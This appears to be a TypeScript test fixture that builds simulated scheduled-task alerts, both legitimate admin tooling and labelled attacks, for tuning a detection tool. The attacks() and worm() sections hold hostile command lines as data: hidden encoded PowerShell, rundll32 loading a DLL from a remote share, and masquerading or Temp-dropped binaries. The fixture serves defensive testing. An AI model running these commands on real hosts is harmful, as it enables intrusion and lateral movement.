// A simulated alert corpus for tuning tests: legitimate admin tooling recurring across many hosts and days
// (SCCM, PDQ Deploy, a monitoring agent), plus attacks, including ones from a management server with a
// command unlike its usual ones. Alerts are built in the shape src/alerts produces (dotted kibana.alert.*
// keys, seqhunt.task, the matched network and registry events).
import { createHash } from 'node:crypto';
import type { Alert } from '../../src/alerts/types.js';

export const FLAGSHIP_ID = 'f2a1c3d4-0000-4c00-8000-seqhunt00001';

export interface AlertSpec {
  host: string;
  time: string;
  sourceIp?: string;
  user?: string;
  domain?: string;
  taskName?: string;
  command?: string;
  args?: string;
  runAs?: string;
  ruleId?: string;
  riskScore?: number;
  severity?: string;
  /** What the corpus knows it is (never read by the code under test). */
  truth?: string;
}

function uuid(text: string): string {
  const h = createHash('sha256').update(text).digest('hex');
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-8${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

export function makeAlert(spec: AlertSpec): Alert & { truth?: string } {
  const t = Date.parse(spec.time);
  const net = {
    '@timestamp': new Date(t - 400).toISOString(),
    event: { category: ['network'], type: ['start'], direction: 'ingress' },
    host: { id: uuid(spec.host), name: spec.host, os: { type: 'windows' } },
    process: { name: 'svchost.exe', entity_id: `{${uuid(spec.host + spec.time)}}` },
    source: { ip: spec.sourceIp ?? '0.0.0.0', port: 50123 },
    destination: { ip: '10.1.0.10', port: 49670 },
  };
  const guid = `{${uuid(spec.host + spec.time + 'task').toUpperCase()}}`;
  const reg = {
    '@timestamp': spec.time,
    event: { category: ['registry'], type: ['change'] },
    host: { id: uuid(spec.host), name: spec.host, os: { type: 'windows' } },
    process: { name: 'svchost.exe', entity_id: `{${uuid(spec.host + spec.time)}}` },
    registry: {
      path: `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\${guid}\\Actions`,
      value: 'Actions',
    },
  };
  const alert: Alert & { truth?: string } = {
    '@timestamp': spec.time,
    'kibana.alert.uuid': uuid(JSON.stringify(spec)),
    'kibana.alert.original_time': spec.time,
    'kibana.alert.rule.name': 'Remote Scheduled Task Creation',
    'kibana.alert.rule.rule_id': spec.ruleId ?? FLAGSHIP_ID,
    'kibana.alert.rule.uuid': uuid(spec.ruleId ?? FLAGSHIP_ID),
    'kibana.alert.rule.risk_score': spec.riskScore ?? 47,
    'kibana.alert.rule.severity': spec.severity ?? 'medium',
    'kibana.alert.rule.threat': [],
    'kibana.alert.risk_score': spec.riskScore ?? 47,
    'kibana.alert.severity': spec.severity ?? 'medium',
    'host.id': uuid(spec.host),
    'host.name': spec.host,
    events: [net, reg],
    'seqhunt.origins': [null, null],
  };
  if (spec.sourceIp) alert['source.ip'] = spec.sourceIp;
  if (spec.user) alert['source.user.name'] = spec.user;
  if (spec.domain) alert['source.user.domain'] = spec.domain;
  if (spec.taskName || spec.command || spec.args || spec.runAs) {
    alert['seqhunt.task'] = {
      name: spec.taskName,
      guid,
      command: spec.command,
      arguments: spec.args,
      runAs: spec.runAs,
      evidence: { command: 'registry Actions' },
    };
    for (const k of ['name', 'command', 'arguments', 'runAs'] as const) if (alert['seqhunt.task'][k] === undefined) delete alert['seqhunt.task'][k];
  }
  if (spec.truth) alert.truth = spec.truth;
  return alert;
}

/** Deterministic pseudo-random generator (xorshift), so the corpus is the same on every run. */
export function rng(seed: number): () => number {
  let x = seed >>> 0 || 1;
  return () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) / 0x100000000;
  };
}

function guidOf(r: () => number): string {
  const hex = () => Math.floor(r() * 16).toString(16).toUpperCase();
  const n = (k: number) => Array.from({ length: k }, hex).join('');
  return `{${n(8)}-${n(4)}-${n(4)}-${n(4)}-${n(12)}}`;
}

function randomName(r: () => number, length: number): string {
  const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
  let out = '';
  for (let i = 0; i < length; i++) out += letters[Math.floor(r() * letters.length)];
  // Keep the generated name recognisably random: letters and digits interleaved.
  return out.slice(0, 2) + '7' + out.slice(2, 4) + '3' + out.slice(4);
}

const day = (base: string, d: number, h: number, m: number) => new Date(Date.parse(base) + d * 86_400_000 + h * 3_600_000 + m * 60_000).toISOString();

/**
 * Admin tooling over `days` days starting at `start`:
 * - SCCM: 10.0.5.20 as CORP\svc_sccm, ccmexec.exe with a fresh GUID each time, 12 hosts a day;
 * - PDQ Deploy: 10.0.5.30 as CORP\pdq_deploy, a runner with a package number, 8 hosts on 2 days;
 * - monitoring agent: mon01.corp.local (host name source) as CORP\svc_monitor, random collection ids,
 *   only 2 hosts but every day.
 */
export function adminTooling(start: string, days: number, seed: number, hostOffset = 0): Alert[] {
  const r = rng(seed);
  const out: Alert[] = [];
  for (let d = 0; d < days; d++) {
    for (let i = 0; i < 12; i++) {
      out.push(
        makeAlert({
          host: `ws-${String(((i + d * 5 + hostOffset) % 40) + 1).padStart(3, '0')}.corp.local`,
          time: day(start, d, 9, i * 3),
          sourceIp: '10.0.5.20',
          user: 'svc_sccm',
          domain: 'CORP',
          taskName: `\\Microsoft\\Configuration Manager\\Configuration Manager Health Evaluation ${guidOf(r)}`,
          command: 'C:\\Windows\\CCM\\ccmexec.exe',
          args: `/runtask ${guidOf(r)}`,
          runAs: 'SYSTEM',
          truth: 'admin',
        }),
      );
    }
    if (d < 2) {
      for (let i = 0; i < 8; i++) {
        const pkg = 1000 + Math.floor(r() * 9000);
        out.push(
          makeAlert({
            host: `srv-${String(((i + hostOffset) % 20) + 1).padStart(2, '0')}.corp.local`,
            time: day(start, d, 22, i * 2),
            sourceIp: '10.0.5.30',
            user: 'pdq_deploy',
            domain: 'CORP',
            taskName: `\\PDQ\\Deploy-${pkg}`,
            command: 'C:\\Windows\\AdminArsenal\\PDQDeployRunner\\PDQDeployRunner.exe',
            args: `-package ${pkg} -step 1`,
            runAs: 'CORP\\pdq_deploy',
            truth: 'admin',
          }),
        );
      }
    }
    for (let i = 0; i < 2; i++) {
      const id = randomName(r, 8);
      out.push(
        makeAlert({
          host: `db-0${i + 1}.corp.local`,
          time: day(start, d, 3, i * 7),
          sourceIp: '10.0.6.5',
          user: 'svc_monitor',
          domain: 'CORP',
          taskName: `\\Contoso\\Collect-${id}`,
          command: 'C:\\Program Files\\Contoso Agent\\agent.exe',
          args: `--collect --id ${id}`,
          runAs: 'CORP\\svc_monitor',
          truth: 'admin',
        }),
      );
    }
  }
  return out;
}

/** Attacks, at `start`: none of them may be suppressed by a baseline of the admin tooling. */
export function attacks(start: string): Alert[] {
  const a = (d: number, spec: Omit<AlertSpec, 'time'>) => makeAlert({ ...spec, time: day(start, d, 14, 0) });
  return [
    // The strategy's own validation command, from a workstation never seen creating tasks.
    a(0, { host: 'ws-007.corp.local', sourceIp: '172.18.39.5', user: 'pgustavo', domain: 'THESHIRE', taskName: '\\RemoteTaskTest', command: 'cmd.exe', args: '/c calc.exe', runAs: 'SYSTEM', truth: 'attack' }),
    // From the SCCM server, as its service account, but an encoded PowerShell command: unlike its usual ones.
    a(1, { host: 'ws-012.corp.local', sourceIp: '10.0.5.20', user: 'svc_sccm', domain: 'CORP', taskName: '\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh', command: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', runAs: 'SYSTEM', truth: 'attack' }),
    // From the SCCM server with SCCM-like arguments, but a binary dropped under Users\Public.
    a(1, { host: 'ws-013.corp.local', sourceIp: '10.0.5.20', user: 'svc_sccm', domain: 'CORP', taskName: '\\Microsoft\\Configuration Manager\\Health', command: 'C:\\Users\\Public\\ccmexec.exe', args: '/runtask {0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0}', runAs: 'SYSTEM', truth: 'attack' }),
    // The PDQ server's command, but a different account: stolen access to the management server.
    a(2, { host: 'srv-03.corp.local', sourceIp: '10.0.5.30', user: 'helpdesk2', domain: 'CORP', taskName: '\\PDQ\\Deploy-4242', command: 'C:\\Windows\\AdminArsenal\\PDQDeployRunner\\PDQDeployRunner.exe', args: '-package 4242 -step 1', runAs: 'SYSTEM', truth: 'attack' }),
    // rundll32 from an unknown source.
    a(2, { host: 'db-01.corp.local', sourceIp: '10.66.6.6', user: 'admin', domain: 'CORP', taskName: '\\Updater', command: 'rundll32.exe', args: '\\\\10.66.6.6\\share\\payload.dll,Start', runAs: 'SYSTEM', truth: 'attack' }),
    // The monitoring agent's binary, from its source, with a command line that is not its own.
    a(3, { host: 'db-02.corp.local', sourceIp: '10.0.6.5', user: 'svc_monitor', domain: 'CORP', taskName: '\\Contoso\\Collect-x', command: 'C:\\Program Files\\Contoso Agent\\agent.exe', args: '--exec C:\\ProgramData\\a.bat', runAs: 'SYSTEM', truth: 'attack' }),
  ];
}

/**
 * A worm: one compromised host creating the same task on many hosts with one command. It recurs like admin
 * tooling, but its command sits in Temp: baseline learn must hold it back.
 */
export function worm(start: string, hosts: number): Alert[] {
  return Array.from({ length: hosts }, (_, i) =>
    makeAlert({ host: `ws-${String(i + 20).padStart(3, '0')}.corp.local`, time: day(start, 0, 1, i), sourceIp: '10.0.9.9', user: 'jdoe', domain: 'CORP', taskName: '\\Update', command: 'C:\\Windows\\Temp\\svc.exe', runAs: 'SYSTEM', truth: 'attack' }),
  );
}
